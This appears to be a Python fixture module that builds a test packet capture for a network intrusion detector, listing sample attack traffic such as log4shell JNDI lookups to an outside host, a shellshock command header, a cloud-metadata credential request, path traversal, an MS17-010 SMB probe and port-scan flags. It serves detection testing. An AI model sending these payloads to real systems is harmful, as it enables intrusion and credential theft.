"""What attackers say, for attack.pcap: harmless copies of well-known first messages. Nothing here works on anything.

What tmrx's own rules catch of it is tests/cases/attack.
"""

from __future__ import annotations

OK = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"
FORBIDDEN = b"HTTP/1.1 403 Forbidden\r\nContent-Length: 0\r\n\r\n"
ROLE = (
    b'{"Code":"Success","Type":"AWS-HMAC","AccessKeyId" : "ASIAEXAMPLEEXAMPLE00",'
    b'"SecretAccessKey" : "not-a-secret","Token" : "none","Expiration" : "2030-01-01T00:00:00Z"}'
)


def get(path: bytes, *headers: bytes) -> bytes:
    return b"\r\n".join([b"GET " + path + b" HTTP/1.1", b"Host: www.internal", *headers, b"", b""])


def answer(body: bytes) -> bytes:
    return b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body


def trans2() -> bytes:
    """SMB 1 TRANSACTION2 with subcommand SESSION_SETUP, as MS17-010's tools send it ([MS-CIFS] 2.2.4.46)."""
    header = b"\xffSMB\x32" + bytes(4) + b"\x18\x07\xc0" + bytes(12) + bytes.fromhex("0008fffe00084100")
    words = bytes.fromhex("0f 0c00 0000 0100 0000 00 00 0000 a6d9a400 0000 0c00 4200 0000 4e00 01 00 0e00")
    body = header + words + bytes.fromhex("0d00") + bytes(13)
    return len(body).to_bytes(4, "big") + body


# Name, server port, and who says what: requests at even places, answers at odd ones.
CONVERSATIONS: list[tuple[str, int, list[bytes]]] = [
    ("log4shell (CVE-2021-44228)", 8080, [get(b"/${jndi:ldap://203.0.113.66:1389/a}"), OK]),
    ("log4shell, hidden", 8080, [get(b"/?q=${${lower:j}ndi:${lower:l}dap://203.0.113.66/x}"), OK]),
    ("shellshock (CVE-2014-6271)", 80, [get(b"/cgi-bin/status", b"User-Agent: () { :;}; /bin/bash -c 'id'"), OK]),
    (
        "instance metadata through a forged request",
        80,
        [get(b"/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/web"), answer(ROLE)],
    ),
    ("path traversal", 80, [get(b"/static/../../../../etc/passwd"), answer(b"root:x:0:0:root:/root:/bin/bash\n")]),
    ("path traversal, encoded", 80, [get(b"/static/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc/passwd"), FORBIDDEN]),
    ("credentials in clear text", 80, [get(b"/admin", b"Authorization: Basic YWRtaW46aHVudGVyMg=="), OK]),
    (
        "credentials over FTP",
        21,
        [b"USER admin\r\n", b"331 Password required.\r\n", b"PASS hunter2\r\n", b"230 Logged in.\r\n"],
    ),
    (
        "mining pool (stratum)",
        3333,
        [
            b'{"id":1,"method":"mining.subscribe","params":["miner/1.0"]}\n',
            b'{"id":1,"result":[[["mining.notify","ae68"]],"08000002",4],"error":null}\n',
        ],
    ),
    ("SMB 1 (MS17-010)", 445, [trans2(), b"\x00\x00\x00\x23\xffSMB\x32\x02\x00\x00\xc0" + bytes(26)]),
]

# Name, TCP flags and ports of each port scan.
SCANS: list[tuple[str, str, tuple[int, ...]]] = [
    ("SYN scan", "S", (21, 22, 23, 25, 53, 80, 110, 135, 139, 143, 443, 445, 993, 1723, 3306, 3389, 5900, 8080)),
    ("null scan", "", (22, 80, 443)),
    ("Xmas scan", "FPU", (22, 80, 443)),
    ("SYN+FIN scan", "SF", (22, 80, 443)),
]

# Bytes of echo data, as a tunnel over ICMP has them.
ICMP_TUNNEL = (1024, 1200, 1100)
